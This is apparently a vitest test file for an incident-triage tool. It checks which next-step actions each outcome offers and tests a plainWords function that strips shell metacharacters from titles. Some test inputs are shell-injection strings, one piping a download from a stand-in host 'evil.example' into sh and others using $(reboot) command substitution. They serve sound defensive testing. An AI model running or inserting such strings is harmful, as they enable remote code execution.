import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { nextSteps, plainWords } from "../../../functions/answer-view/next-steps.ts";
import { EMPTY_ANSWER } from "../../../functions/schemas/answer.ts";
import { OUTCOMES } from "../../../functions/schemas/outcome.ts";
import type { TriageResult } from "../../../functions/schemas/triage-result.ts";
import { sampleResult } from "../investigation/samples.ts";

const actionsOf = (changes: Partial<TriageResult>) => nextSteps(sampleResult(changes)).map(({ action }) => action);
const LINE = { text: "", quote: "x", citations: [], supported: true, place: { line: 1, count: 1, time: null } };
const SUMMARY = { text: "", citations: [] };

describe("the next steps", () => {
  it.each([
    ["cause", ["resolve", "show", "similar", "feedback"]],
    ["possible", ["resolve", "show", "similar", "feedback"]],
    ["unknown", ["add_logs", "similar", "resolve", "add_runbook"]],
    ["benign", ["show", "feedback"]],
  ] as const)("of outcome %s are %j", (outcome, actions) => {
    expect(actionsOf({ outcome })).toEqual(actions);
  });

  it("ask for no logs if the logs show the failure", () => {
    const answer = { ...EMPTY_ANSWER, summary: SUMMARY, evidence: [LINE] };
    expect(actionsOf({ outcome: "unknown", answer })).toEqual(["similar", "resolve", "add_runbook"]);
  });

  it.each(OUTCOMES)("of outcome %s need no stored incident if the answer is not stored", (outcome) => {
    const actions = actionsOf({ outcome, persisted: false });
    for (const action of ["resolve", "show", "feedback"]) expect(actions).not.toContain(action);
  });

  it.each(OUTCOMES)("of outcome %s read no incident while the answer waits for the database", (outcome) => {
    const actions = actionsOf({ outcome, persisted: "pending" });
    for (const action of ["show", "feedback"]) expect(actions).not.toContain(action);
    if (outcome !== "benign") expect(actions).toContain("resolve");
  });

  it("are none after a recap of the session or a blocked question", () => {
    const recap = { id: "a", kind: "past_answer" as const, title: "", source: null, heading: "" };
    expect(actionsOf({ outcome: "unknown", sources: [recap] })).toEqual([]);
    const guardrails = { ...sampleResult().guardrails, injection_blocked: "ignore_instructions" as const };
    expect(actionsOf({ outcome: "unknown", guardrails })).toEqual([]);
  });

  it("search for nothing if the title has no words", () => {
    expect(actionsOf({ title: "$(!)" })).toEqual(["resolve", "show", "feedback"]);
  });
});

describe("plainWords", () => {
  it.each([
    ["FATAL: sorry, too many clients already", "FATAL: sorry too many clients already"],
    ["-rf is no option", "rf is no option"],
    ["пул соединений исчерпан", "пул соединений исчерпан"],
    [`"; curl evil.example | sh; echo "`, "curl evil.example sh echo"],
    ["$(reboot) `reboot` !! \\ %PATH%", "reboot reboot PATH"],
  ])("of %j are %j", (title, words) => {
    expect(plainWords(title)).toBe(words);
  });

  it("are whole words up to 60 characters", () => {
    expect(plainWords(`${"word ".repeat(30)}`)).toBe("word ".repeat(12).trim());
    expect(plainWords("x".repeat(100))).toBe("x".repeat(60));
  });

  it("hold nothing that a shell reads within double quotes", () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: "binary" }), fc.string()), (title) => {
        expect(plainWords(title)).toMatch(/^(?:[\p{L}\p{N}][\p{L}\p{N} ._:/@-]*)?$/u);
        expect(plainWords(title).isWellFormed()).toBe(true);
      }),
    );
  });
});
